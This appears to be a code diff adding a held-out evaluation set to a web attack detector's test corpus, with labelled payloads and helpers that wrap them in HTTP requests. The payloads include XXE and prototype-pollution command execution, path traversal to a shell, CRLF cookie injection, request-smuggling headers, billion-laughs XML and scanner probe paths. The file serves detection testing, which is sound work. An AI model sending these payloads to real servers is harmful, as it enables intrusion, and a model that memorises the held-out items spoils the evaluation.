+    ("rce", "textxml", '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>'),
+    (
+        "rce",
+        "rawjson",
+        '{"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require('
+        "'child_process').execSync('id').toString())//\"}}",
+    ),
+    ("rce", "path", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh"),
+    ("scanner", "ua", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
+    ("scanner", "ua", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
+    (
+        "scanner",
+        "ua",
+        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    ),
+    ("scanner", "ua", "gobuster/3.6"),
+    ("scanner", "ua", "Fuzz Faster U Fool v2.1.0-dev"),
+    ("scanner", "header:Acunetix-Aspect", "enabled"),
+    ("scanner", "ua", "Mozilla/4.0 (Hydra)"),
+    ("scanner", "ua", "feroxbuster/2.10.1"),
+    ("scanner", "ua", "Mozilla/5.0 zgrab/0.x"),
+    ("scanner", "ua", "WhatWeb/0.5.5"),
+    ("scanner", "path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
+    ("scanner", "path", "/.svn/entries"),
+    ("scanner", "path", "/manager/html"),
+    ("scanner", "path", "/HNAP1/"),
+    ("scanner", "path", "/boaform/admin/formLogin"),
+    ("scanner", "path", "/autodiscover/autodiscover.json?@zdi/Powershell"),
+    ("scanner", "path", "/server-info"),
+    ("scanner", "path", "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"),
+    ("scanner", "path", "/shell.php"),
+    ("scanner", "path", "/backup.sql"),
+    ("scanner", "path", "/.idea/workspace.xml"),
+    ("scanner", "path", "/api/jsonws/invoke"),
+    ("scanner", "path", "/mgmt/tm/util/bash"),
+    ("scanner", "path", "/actuator/env"),
+    ("scanner", "path", "/debug/default/view?panel=config"),
+    ("scanner", "path", "/.docker/config.json"),
+    ("protocol", "method", "TRACE"),
+    ("protocol", "method", "CONNECT"),
+    ("protocol", "method", "DEBUG"),
+    ("protocol", "method", "HACK"),
+    ("protocol", "header:Content-Length", "5, 6"),
+    ("protocol", "header:Content-Length", "+12"),
+    ("protocol", "header:Transfer-Encoding", "xchunked"),
+    ("protocol", "header:Transfer-Encoding", "identity"),
+    ("protocol", "headers", "Expect: 100-continue\nTransfer-Encoding: chunked\nContent-Length: 3"),
+    ("protocol", "header:Host", "203.0.113.5"),
+    ("protocol", "raw", "x%0d%0aSet-Cookie:%20session=attacker"),
+    ("protocol", "raw", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
+    ("protocol", "header:Range", "bytes=0-,0-,0-,0-,0-,0-,0-,0-,0-,0-"),
+    ("protocol", "header:Range", "bytes=0-18446744073709551615"),
+    ("protocol", "header:Content-Type", "application/x-www-form-urlencoded; charset=utf-7"),
+    ("protocol", "raw", "a%00b"),
+    ("protocol", "header:Connection", "close, X-Forwarded-For"),
+    ("protocol", "ua", ""),
+    (
+        "protocol",
+        "xml",
+        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">'
+        "]><lolz>&lol2;</lolz>",
+    ),
+)
+
+
+def _deliver5(cat: str, how: str, p: str, note: str) -> CorpusRequest:
+    """Held-out 5's own deliveries, then `_deliver`'s: a SOAP-style `text/xml` body, a payload
+    inside a JSON array of objects, an upload's file name, a URL-encoded path segment."""
+    h = _headers()
+    if how == "textxml":
+        body = f'<?xml version="1.0" encoding="utf-8"?>{p}'.encode()
+        h = {**h, "Content-Type": "text/xml; charset=utf-8", "Content-Length": str(len(body))}
+        return CorpusRequest(cat, "POST", "/soap/orders", "", h, body, note)
+    if how == "jsonarray":
+        return _json(cat, "/api/cart", {"items": [{"sku": "A-1", "note": p}], "v": 2}, note)
+    if how == "filename":
+        body = _h5_multipart(("upload", p, "image/gif", b"GIF89a\x01\x00\x01\x00"))
+        h = {**h, **_H5_MULTIPART, "Content-Length": str(len(body))}
+        return CorpusRequest(cat, "POST", "/account/avatar", "", h, body, note)
+    if how == "pathseg":
+        return CorpusRequest(cat, "GET", f"/products/{quote(p, safe='')}", "", h, None, note)
+    return _deliver(cat, how, p, note)
+
+
+def heldout5_attacks() -> list[CorpusRequest]:
+    """The fifth held-out attack set, each payload delivered the way its entry names."""
+    return [_deliver5(c, how, p, f"held-out-5 {how}: {p[:120]}") for c, how, p in HELDOUT5_ATTACKS]
+
+
+def heldout5_benign() -> list[CorpusRequest]:
+    """The fifth held-out benign set: free text, queries, paths, JSON, headers, XML bodies,
+    multipart uploads and several headers at once."""
+    out = _benign_set(
+        "held-out-5",
+        HELDOUT5_BENIGN_TEXT,
+        HELDOUT5_BENIGN_QUERIES,
+        HELDOUT5_BENIGN_PATHS,
+        HELDOUT5_BENIGN_JSON,
+        HELDOUT5_BENIGN_COOKIES,
+        HELDOUT5_BENIGN_REFERERS,
+        HELDOUT5_BENIGN_UAS,
+    )
+    return out + _requests("held-out-5", HELDOUT5_BENIGN_REQUESTS)
